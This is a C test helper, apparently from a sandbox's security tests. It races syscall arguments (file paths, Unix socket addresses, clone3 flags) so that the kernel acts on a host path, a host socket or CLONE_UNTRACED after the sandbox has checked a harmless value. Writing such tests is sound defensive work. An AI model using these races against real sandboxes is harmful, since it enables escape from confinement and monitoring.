/* Check-then-continue attacks: one thread flips what a pointer argument
 * holds while another makes the call over and over, hoping the kernel reads
 * it after the sentry looked (tests/security/test_toctou.py).
 *
 *   toctou utimensat <host file>   "" <-> the file's path, AT_EMPTY_PATH on a pipe
 *   toctou fchownat <host file>    the same, for fchownat
 *   toctou sendmsg <host socket>   msg_name NULL <-> the host listener's address
 *   toctou sendmmsg <host socket>  the same, in an mmsghdr
 *   toctou sendto <host socket>    sun_path: a sandbox name <-> the host listener's
 *   toctou clone3                  clone_args.flags: 0 <-> CLONE_UNTRACED
 *
 * Bounded: ROUNDS calls or SECONDS seconds. Prints "<mode> done ok=<n> other=<n>".
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define ROUNDS 4000
#define SECONDS 8

static atomic_int stop;
static char path[256];                 /* "\0..." <-> "/..." */
static struct sockaddr_un host_addr, sandbox_addr, flip_addr;
static struct msghdr msg;
static struct mmsghdr mmsg[1];
static struct clone_args cargs;

static void *flip_path(void *arg)
{
    (void)arg;
    volatile char *p = path;
    while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
        p[0] = '/';
        p[0] = '\0';
    }
    return NULL;
}

static void *flip_name(void *arg)
{
    volatile struct msghdr *m = arg;
    while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
        m->msg_name = &host_addr;
        m->msg_namelen = sizeof host_addr;
        m->msg_name = NULL;
        m->msg_namelen = 0;
    }
    return NULL;
}

static void *flip_sockaddr(void *arg)
{
    (void)arg;
    volatile struct sockaddr_un *a = &flip_addr;
    while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
        memcpy((void *)a->sun_path, host_addr.sun_path, sizeof a->sun_path);
        memcpy((void *)a->sun_path, sandbox_addr.sun_path, sizeof a->sun_path);
    }
    return NULL;
}

static void *flip_flags(void *arg)
{
    (void)arg;
    volatile __u64 *f = &cargs.flags;
    while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
        *f = CLONE_UNTRACED;
        *f = 0;
    }
    return NULL;
}

int main(int argc, char **argv)
{
    if (argc < 2)
        return 2;
    const char *mode = argv[1];
    const char *target = argc > 2 ? argv[2] : "";
    signal(SIGPIPE, SIG_IGN);
    void *(*flipper)(void *) = NULL;
    void *flip_arg = NULL;
    int pipefd[2], sock = -1;
    if (pipe(pipefd) < 0)
        return 3;
    snprintf(path, sizeof path, "%s", target);
    path[0] = '\0';
    host_addr.sun_family = AF_UNIX;
    snprintf(host_addr.sun_path, sizeof host_addr.sun_path, "%s", target);
    sandbox_addr.sun_family = AF_UNIX;
    snprintf(sandbox_addr.sun_path, sizeof sandbox_addr.sun_path, "/tmp/toctou-sandbox-name");
    flip_addr = sandbox_addr;
    static char data[] = "escaped";
    static struct iovec iov = {data, sizeof data - 1};
    msg.msg_iov = &iov;
    msg.msg_iovlen = 1;
    mmsg[0].msg_hdr = msg;

    if (!strcmp(mode, "utimensat") || !strcmp(mode, "fchownat")) {
        flipper = flip_path;
    } else if (!strcmp(mode, "sendmsg") || !strcmp(mode, "sendmmsg") || !strcmp(mode, "sendto")) {
        sock = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0);
        if (sock < 0)
            return 4;
        flipper = !strcmp(mode, "sendto") ? flip_sockaddr : flip_name;
        flip_arg = !strcmp(mode, "sendmmsg") ? (void *)&mmsg[0].msg_hdr : (void *)&msg;
    } else if (!strcmp(mode, "clone3")) {
        flipper = flip_flags;
        cargs.exit_signal = SIGCHLD;
    } else {
        return 2;
    }

    pthread_t thread;
    if (pthread_create(&thread, NULL, flipper, flip_arg) != 0)
        return 5;
    long ok = 0, other = 0;
    time_t end = time(NULL) + SECONDS;
    struct timespec times[2] = {{1, 0}, {1, 0}};
    for (int i = 0; i < ROUNDS && time(NULL) < end; i++) {
        long rc;
        if (!strcmp(mode, "utimensat"))
            rc = syscall(SYS_utimensat, pipefd[0], path, times, AT_EMPTY_PATH);
        else if (!strcmp(mode, "fchownat"))
            rc = syscall(SYS_fchownat, pipefd[0], path, -1, -1, AT_EMPTY_PATH);
        else if (!strcmp(mode, "sendmsg"))
            rc = sendmsg(sock, &msg, MSG_DONTWAIT);
        else if (!strcmp(mode, "sendmmsg"))
            rc = sendmmsg(sock, mmsg, 1, MSG_DONTWAIT);
        else if (!strcmp(mode, "sendto"))
            rc = sendto(sock, data, sizeof data - 1, MSG_DONTWAIT, (struct sockaddr *)&flip_addr,
                        sizeof flip_addr);
        else {
            rc = syscall(SYS_clone3, &cargs, sizeof cargs);
            if (rc == 0)
                _exit(0);
            if (rc > 0)
                waitpid(rc, NULL, 0);
        }
        if (rc >= 0)
            ok++;
        else if (!strcmp(mode, "clone3") && errno != ENOSYS)
            other++;
    }
    atomic_store(&stop, 1);
    pthread_join(thread, NULL);
    printf("%s done ok=%ld other=%ld\n", mode, ok, other);
    return 0;
}
